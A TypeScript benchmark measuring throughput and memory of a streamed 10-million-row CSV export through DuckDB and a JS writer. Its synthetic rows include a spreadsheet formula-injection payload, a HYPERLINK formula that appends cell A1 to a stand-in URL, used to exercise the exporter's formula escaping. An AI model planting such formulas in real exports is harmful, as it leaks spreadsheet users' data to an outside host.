/**
 * csv: a streamed CSV export of 10,000,000 rows (by default) through exportCsv, both ways exporters
 * take: the SQL path (DuckDB COPY with the formula escaping in SQL, then hashed on the way to its
 * name: records and search) for all the rows, and the JS path (rows streamed chunk by chunk into
 * CsvWriter with back-pressure: timelines, anomaly hits, aggregates) for a tenth of them. The rows are
 * made by DuckDB (decision-like columns, one in a thousand holding a formula), so the figures are the
 * export's, not an import's. RSS is sampled throughout: flat memory means it grows by a few MB, not
 * by the size of the data.
 */
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { CsvValue } from '../src/export/csv.ts';
import { streamQuery } from '../src/export/duck-rows.ts';
import type { Exporter } from '../src/export/exporter.ts';
import { exportCsv } from '../src/export/run.ts';
import type { BenchEntry } from './types.ts';

export async function benchCsv(records: number, log: (line: string) => void): Promise<BenchEntry[]> {
  const dir = mkdtempSync(join(tmpdir(), 'audit-ws-bench-csv-'));
  const db = await DuckDBInstance.create(':memory:', { threads: '2', memory_limit: '512MB' });
  const duck = await db.connect();
  let seen = 0;
  let rssAt10: number | undefined;
  let peak = 0;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage.rss());
  }, 100);
  // The SQL path, as the records and search exporters take it: DuckDB writes, we hash and rename.
  const rowsSql = (
    n: number,
  ): string => `SELECT 'd-' || lpad(i::VARCHAR, 10, '0') AS "decisionId", md5(i::VARCHAR) AS "traceId",
      TIMESTAMPTZ '2026-03-01 00:00:00+00' + to_seconds(i) AS "at", 'model-' || (i % 7) AS "modelId",
      CASE WHEN i % 1000 = 0 THEN '=HYPERLINK("http://x/?"&A1)' WHEN i % 3 = 0 THEN 'decline' ELSE 'approve' END AS "prediction",
      (i % 997) / 997.0 AS "confidence", i % 5 = 0 AS "humanReviewed", 'reviews/' || (i // 100000) || '.jsonl' AS "sourceFile", i + 1 AS "line"
    FROM range(${n}) t(i)`;
  const synthetic: Exporter = {
    name: 'bench',
    description: 'synthetic decision-like rows',
    params: [],
    open: async () => ({ sql: rowsSql(records), params: {} }),
  };
  // The JS path (rows into JS, CsvWriter), as the timeline, anomaly and aggregate exporters take it, on a tenth of the rows.
  const jsRows = Math.max(1, Math.floor(records / 10));
  const syntheticJs: Exporter = {
    name: 'bench-js',
    description: 'synthetic decision-like rows through JS',
    params: [],
    async open() {
      const inner = await streamQuery(duck, rowsSql(jsRows));
      async function* rows(): AsyncGenerator<readonly CsvValue[]> {
        for await (const r of inner.rows) {
          if (++seen === Math.floor(jsRows / 10)) rssAt10 = process.memoryUsage.rss();
          yield r;
        }
      }
      return { columns: inner.columns, rows: rows() };
    },
  };
  const out = join(dir, 'export.csv');
  const ctx = { duck, sqlite: undefined as never };
  try {
    const rssBefore = process.memoryUsage.rss();
    let started = performance.now();
    const res = await exportCsv(synthetic, ctx, {}, out);
    const seconds = (performance.now() - started) / 1000;
    const rssAfter = process.memoryUsage.rss();
    peak = Math.max(peak, rssAfter);
    const mb = statSync(out).size / 1e6;
    log(
      `SQL path: ${res.sidecar.rows} rows, ${mb.toFixed(0)} MB in ${seconds.toFixed(1)} s: ${Math.round(res.sidecar.rows / seconds)} rows/s, ${(mb / seconds).toFixed(0)} MB/s; RSS ${(rssBefore / 1e6).toFixed(0)} MB before, ${(rssAfter / 1e6).toFixed(0)} MB after, peak ${(peak / 1e6).toFixed(0)} MB`,
    );
    rmSync(out, { force: true });
    started = performance.now();
    const js = await exportCsv(syntheticJs, ctx, {}, out);
    const jsSeconds = (performance.now() - started) / 1000;
    const rssEnd = process.memoryUsage.rss();
    const growth = (rssEnd - (rssAt10 ?? rssEnd)) / 1e6;
    clearInterval(sampler);
    log(
      `JS path: ${js.sidecar.rows} rows in ${jsSeconds.toFixed(1)} s: ${Math.round(js.sidecar.rows / jsSeconds)} rows/s; RSS after 10% of its rows ${((rssAt10 ?? 0) / 1e6).toFixed(0)} MB, at the end ${(rssEnd / 1e6).toFixed(0)} MB (growth ${growth.toFixed(0)} MB)`,
    );
    return [
      { name: 'csv.rows_per_s', value: Math.round(res.sidecar.rows / seconds), unit: 'records/s' },
      { name: 'csv.mb_per_s', value: Math.round(mb / seconds), unit: 'MB/s' },
      { name: 'csv.rows', value: res.sidecar.rows, unit: 'rows' },
      { name: 'csv.rss_growth_mb', value: Math.round((rssAfter - rssBefore) / 1e6), unit: 'MB' },
      { name: 'csv.js_rows_per_s', value: Math.round(js.sidecar.rows / jsSeconds), unit: 'records/s' },
      { name: 'csv.js_rss_growth_mb', value: Math.round(growth), unit: 'MB' },
      { name: 'csv.peak_rss_mb', value: Math.round(peak / 1e6), unit: 'MB' },
    ];
  } finally {
    clearInterval(sampler);
    duck.closeSync();
    db.closeSync();
    rmSync(dir, { recursive: true, force: true });
  }
}
